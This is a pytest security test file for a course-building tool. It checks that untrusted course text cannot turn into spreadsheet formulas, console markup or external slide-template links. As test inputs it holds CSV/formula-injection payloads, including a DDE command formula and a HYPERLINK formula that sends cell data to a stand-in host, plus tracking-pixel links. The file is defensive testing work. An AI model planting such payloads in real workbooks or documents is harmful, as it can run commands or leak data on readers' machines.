"""No internal errors on input, no formulas from text, no markup from a course, no links from
a slide template: what an untrusted course folder says reaches the documents and the
terminal as text, and what cannot be used ends in exit 1 with one line (docs/SECURITY.md)."""

from __future__ import annotations

import re
import zipfile
from copy import deepcopy
from pathlib import Path

import pytest

ROOTS = Path(__file__).parent / "roots"
FORM = (ROOTS / "library/forms/end-of-day.yaml").read_text(encoding="utf-8")
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A3,"Click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
]


# ----------------------------------------------------------------- spreadsheet formulas


def _formula_cells(path: Path) -> list[str]:
    """Every cell of a workbook that a spreadsheet would evaluate: openpyxl's formula cells,
    and any <f> element in the sheets' XML."""
    from openpyxl import load_workbook

    found = []
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", package.read(name)):
                found.append(f"{name}: <f>")
    return found


@pytest.fixture
def formula_forms(course, cli) -> Path:
    """A local form whose every text field starts like a formula."""
    form = FORM.replace("title: End-of-day evaluation", f"title: '{FORMULAS[2]}'")
    form = form.replace('text: "How much did {item} add to your knowledge?"', f"text: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'")
    form = form.replace("text: Gender", "text: \"=cmd|' /C calc'!A0\"")
    form = form.replace("label: Woman}", "label: '@SUM(A1:A2)'}").replace("label: Man}", "label: '-2+3'}")
    form = form.replace("  - title: Sessions", "  - title: '=1+1'")
    assert form.count("=") >= 3, form
    folder = course("course-good", {"local/forms/end-of-day.yaml": form})
    code, _, err = cli("build", folder, "--only", "forms")
    assert code == 0, err
    return folder / "build/forms"


def test_no_cell_of_a_generated_workbook_is_a_formula(formula_forms):
    workbooks = sorted(formula_forms.glob("*.xlsx"))
    assert {path.name.split(".", 1)[1] for path in workbooks} == {"xlsform.xlsx", "data-entry.xlsx"}
    for path in workbooks:
        assert _formula_cells(path) == [], path.name


def test_formula_text_is_kept_as_text_behind_a_quote(formula_forms):
    from openpyxl import load_workbook

    book = load_workbook(next(formula_forms.glob("*.xlsform.xlsx")))
    labels = [row[2] for row in book["survey"].iter_rows(min_row=2, values_only=True)]
    assert "'" + FORMULAS[0] in labels and "'" + FORMULAS[1] in labels
    choices = [row[2] for row in book["choices"].iter_rows(min_row=2, values_only=True)]
    assert "'@SUM(A1:A2)" in choices and "'-2+3" in choices
    entry = load_workbook(next(formula_forms.glob("*.data-entry.xlsx")))
    assert "'" + FORMULAS[1] in [cell.value for cell in entry["responses"][2]]


# ----------------------------------------------------------------- Rich markup and Unicode


MARKUP_TITLE = "Rights [/bold] and [red]wrongs[/red] :smile: [link=http://x.example]here[/link]"


def test_course_text_is_never_read_as_markup(course, cli):
    session = (ROOTS / "library/modules/sessions/session-1.yaml").read_text()
    session = session.replace("title: First session", f"title: '{MARKUP_TITLE}'")
    session = session.replace("title: Welcome\n", "title: '[bold]Welcome[/]'\n", 1)
    activity = (ROOTS / "course-good/local/activities/local-visit.yaml").read_text().replace(
        "title: Visit to a migrant resource centre", "title: 'Visit [/] centre'")
    folder = course("course-good", {
        "course.yaml": (ROOTS / "course-good/course.yaml").read_text().replace("title: Test course in Oslo", "title: 'Oslo [/bold] course'"),
        "local/sessions/session-1.yaml": session,
        "local/activities/local-visit.yaml": activity,
    })
    for command in (["check", folder], ["plan", folder], ["plan", folder, "--detail"], ["list", "sessions", "-c", folder],
                    ["list", "activities", "-c", folder], ["show", "session-1", "-c", folder], ["show", "local-visit", "-c", folder]):
        code, out, err = cli(*command)
        assert code == 0, (command, err)
        flat = " ".join(out.split())
        if command[0] in ("check", "plan"):
            assert "Oslo [/bold] course" in flat, (command, out)
        if command[0] in ("list", "show") and command[1] in ("sessions", "session-1"):
            assert "[/bold] and [red]wrongs[/red] :smile:" in flat, (command, out)
        if command[1] in ("activities", "local-visit"):
            assert "Visit [/] centre" in flat, (command, out)


def test_questionnaire_answers_are_never_read_as_markup(course, cli, tmp_path):
    path = tmp_path / "answers.csv"
    path.write_text("sector,gender,topics\nngo,woman,[/bold]\ngovernment,man,[red]x :smile:\n", encoding="utf-8")
    code, out, err = cli("assess", course(), "--responses", path)
    assert code == 0, err
    assert "[/bold]" in out and "[red]x" in out and ":smile:" in out


UNICODE_NAMES = [
    "نور حداد",  # Arabic, right to left
    "Ana \u200fSilva\u200e",  # with right-to-left and left-to-right marks
    "👩\u200d🏫 Ana",  # an emoji joined by a zero-width joiner
    "Bo \u202eBerg\u202c",  # bidi override and pop
    "Иван Петров",
    "क्षत्रिय",  # a conjunct
]


def test_legitimate_unicode_stays_accepted(course, cli):
    people = "participants:\n" + "".join(f"  - name: \"{name}\"\n" for name in UNICODE_NAMES)
    folder = course("course-good", {
        "course.yaml": (ROOTS / "course-good/course.yaml").read_text().replace("title: Test course in Oslo", "title: 'Dakar \u200d🌍 دورة'") + people,
    })
    code, out, err = cli("check", folder)
    assert code == 0, err
    assert "Dakar \u200d🌍 دورة" in out
    code, _, err = cli("build", folder, "--only", "certificates")
    assert code == 0, err
    import shutil
    import subprocess

    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler) reads the certificates' text; pypdf cannot read the emoji font's")
    text = subprocess.run(["pdftotext", folder / "build/certificates/certificates.pdf", "-"], capture_output=True, text=True).stdout
    squashed = "".join(text.split())
    for name in ("نور حداد", "Иван Петров", "👩", "क्षत्रिय"):  # (pdftotext may split a conjunct with a space)
        assert "".join(name.split()) in squashed, name


# ----------------------------------------------------------------- slide templates


def _template(path: Path, *, layouts: bool = True, links: bool = False) -> None:
    from pptx import Presentation
    from pptx.opc.constants import RELATIONSHIP_TYPE as RT
    from pptx.util import Pt

    deck = Presentation()
    if links:
        # a linked text on every layout (the decks keep the layouts, not a template's example
        # slides): made on a slide, then moved to the layouts with a link of their own
        slide = deck.slides.add_slide(deck.slide_layouts[6])
        box = slide.shapes.add_textbox(Pt(10), Pt(10), Pt(200), Pt(40))
        run = box.text_frame.paragraphs[0].add_run()
        run.text = "Our logo"
        run.hyperlink.address = "http://tracker.example/open"
        link = run._r.find(".//{http://schemas.openxmlformats.org/drawingml/2006/main}hlinkClick")
        for layout in deck.slide_layouts:
            copy = deepcopy(box._element)
            layout_rid = layout.part.relate_to("http://tracker.example/open", RT.HYPERLINK, is_external=True)
            for element in copy.iter(link.tag):
                element.set("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id", layout_rid)
            layout.shapes._spTree.append(copy)
        # an image linked (not embedded) from the network, on the master
        master = deck.slide_master.part
        rid = master.relate_to("http://tracker.example/pixel.png", RT.IMAGE, is_external=True)
        tree = deck.slide_master.shapes._spTree
        tree.append(tree.makeelement("{http://schemas.openxmlformats.org/presentationml/2006/main}pic", {}))
        pic = tree[-1]
        pic.append(pic.makeelement("{http://schemas.openxmlformats.org/presentationml/2006/main}blipFill", {}))
        pic[-1].append(pic.makeelement("{http://schemas.openxmlformats.org/drawingml/2006/main}blip",
                                       {"{http://schemas.openxmlformats.org/officeDocument/2006/relationships}link": rid}))
    deck.save(str(path))
    if not layouts:
        # a package whose master lists no layout, and no layout parts
        with zipfile.ZipFile(path) as source:
            items = [(item, source.read(item.filename)) for item in source.infolist()]
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
            for item, data in items:
                if item.filename.startswith("ppt/slideLayouts/"):
                    continue
                if item.filename == "ppt/slideMasters/slideMaster1.xml":
                    data = re.sub(rb"<p:sldLayoutIdLst>.*?</p:sldLayoutIdLst>", b"", data, flags=re.S)
                if item.filename == "ppt/slideMasters/_rels/slideMaster1.xml.rels":
                    data = re.sub(rb'<Relationship [^>]*slideLayout[^>]*/>', b"", data)
                if item.filename == "[Content_Types].xml":
                    data = re.sub(rb'<Override [^>]*slideLayout[^>]*/>', b"", data)
                target.writestr(item, data)


def _with_template(course, build_it) -> Path:  # type: ignore[no-untyped-def]
    folder = course("course-good")
    build_it(folder / "ours.pptx")
    with (folder / "course.yaml").open("a", encoding="utf-8") as handle:
        handle.write("slides:\n  template: ours.pptx\n")
    return folder


def test_a_slide_template_without_layouts_is_a_clean_error(course, bounded):
    folder = _with_template(course, lambda path: _template(path, layouts=False))
    result = bounded("build", folder, "--only", "slides")
    assert result.code == 1, result.err[-2000:]
    assert "internal error" not in result.err and "Traceback" not in result.err
    assert any("ours.pptx" in line and "layout" in line for line in result.err.splitlines()), result.err


def test_a_slide_templates_external_links_are_dropped(course, cli):
    folder = _with_template(course, lambda path: _template(path, links=True))
    with zipfile.ZipFile(folder / "ours.pptx") as package:
        assert sum(package.read(name).count(b'TargetMode="External"') for name in package.namelist() if name.endswith(".rels")) >= 2
    code, _, err = cli("build", folder, "--only", "slides")
    assert code == 0, err
    decks = sorted((folder / "build/slides").glob("*.pptx"))
    assert decks
    for deck in decks:
        with zipfile.ZipFile(deck) as package:
            for name in package.namelist():
                data = package.read(name)
                assert b'TargetMode="External"' not in data, (deck.name, name)
                assert b"tracker.example" not in data, (deck.name, name)
        from pptx import Presentation

        presentation = Presentation(str(deck))  # still opens: no dangling relationship ids
        assert len(presentation.slides) > 1
        # the linked text stays on the layouts, without its link
        assert any("Our logo" in shape.text_frame.text for slide in presentation.slides
                   for shape in slide.slide_layout.shapes if shape.has_text_frame)


# ----------------------------------------------------------------- damaged questionnaire exports


@pytest.mark.parametrize("damage", ["no sheets", "garbage sheet", "sheet of another type"])
def test_a_damaged_export_is_a_message(tmp_path, damage):
    """Found by the fuzz run: openpyxl reads a sheet lazily, so a damaged sheet fails while
    its rows are read, not when the workbook opens."""
    from trainer.assess import ResponsesError, summarise

    source = Path(__file__).parent / "data" / "pre-course-kobo.xlsx"
    path = tmp_path / "answers.xlsx"
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as damaged:
        for item in original.infolist():
            data = original.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                if damage == "no sheets":
                    continue
                if damage == "garbage sheet":
                    data = data[: len(data) // 2] + b"<<<"
                if damage == "sheet of another type":
                    data = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="x"><c r="??"><v>a</v></c></row></sheetData></worksheet>'
            if item.filename == "xl/workbook.xml" and damage == "no sheets":
                data = re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", data, flags=re.S)
            damaged.writestr(item.filename, data)
    with pytest.raises(ResponsesError) as error:
        summarise(path)
    assert str(error.value).startswith(str(path)) and "\n" not in str(error.value)


@pytest.mark.parametrize("missing", ["ppt/_rels/presentation.xml.rels", "ppt/slideLayouts/slideLayout1.xml",
                                     "ppt/slideLayouts/slideLayout2.xml"])
def test_a_slide_template_missing_a_part_is_a_clean_error(course, bounded, missing):
    """Found by the archive fuzzing: a package that passes `check` (a light look at the zip)
    but whose parts python-pptx cannot resolve while it builds the decks."""

    def damaged(path: Path) -> None:
        _template(path)
        with zipfile.ZipFile(path) as source:
            items = [(item, source.read(item.filename)) for item in source.infolist() if item.filename != missing]
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
            for item, data in items:
                target.writestr(item, data)

    folder = _with_template(course, damaged)
    result = bounded("build", folder, "--only", "slides")
    assert result.code == 1, result.err[-2000:]
    assert "internal error" not in result.err and "Traceback" not in result.err
    assert any("ours.pptx" in line for line in result.err.splitlines()), result.err
    assert not (folder / "build/slides").exists()


def test_a_slide_template_with_damaged_compressed_data_is_a_clean_error(course, bounded):
    """The zip's directory is sound, the compressed bytes of its slide master are not."""

    def damaged(path: Path) -> None:
        _template(path)
        data = bytearray(path.read_bytes())
        with zipfile.ZipFile(path) as package:
            info = package.getinfo("ppt/slideMasters/slideMaster1.xml")
        start = info.header_offset + 30 + len(info.filename) + len(info.extra)
        for offset in range(start + 10, start + min(info.compress_size, 200)):
            data[offset] ^= 0x5A
        path.write_bytes(bytes(data))

    folder = _with_template(course, damaged)
    for command in ("check", "build"):
        result = bounded(command, folder)
        assert result.code == 1, result.err[-2000:]
        assert "internal error" not in result.err and "Traceback" not in result.err
        assert any("ours.pptx" in line for line in result.err.splitlines()), result.err
